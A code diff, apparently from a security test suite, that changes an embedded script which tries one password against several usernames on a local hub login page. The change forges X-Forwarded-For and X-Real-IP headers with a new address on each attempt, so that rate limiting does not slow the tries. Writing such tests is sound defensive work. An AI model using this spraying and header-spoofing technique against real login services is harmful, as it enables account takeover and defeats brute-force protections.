@@ -22,18 +22,18 @@ LOGINS = [
 SAME = ["alix", " alix ", "alix\0", "alix\n"]
 
 
-# On the server, by the hub's own proxy: the web server would slow so many tries.
+# On the server, by the hub's own proxy and each from an address of its own: so many tries of one would be slowed.
 TRY = """
 import json, sys, urllib.parse
-def log_in(login, password):
+def log_in(login, password, sender):
     place = "http://127.0.0.1:8000/hub/login"
-    who = {"User-Agent": "attacker"}
+    who = {"User-Agent": "attacker", "X-Forwarded-For": sender, "X-Real-IP": sender}
     page = http("GET", place, who)
     cookie = page["headers"]["set-cookie"].partition(";")[0]
     form = {"username": login, "password": password, "_xsrf": cookie.partition("=")[2]}
     who |= {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}
     return http("POST", place, who, urllib.parse.urlencode(form))["status"]
-print(json.dumps([log_in(login, PASSWORD) for login in LOGINS]))
+print(json.dumps([log_in(login, PASSWORD, f"198.51.100.{n}") for n, login in enumerate(LOGINS)]))
 """
 
 
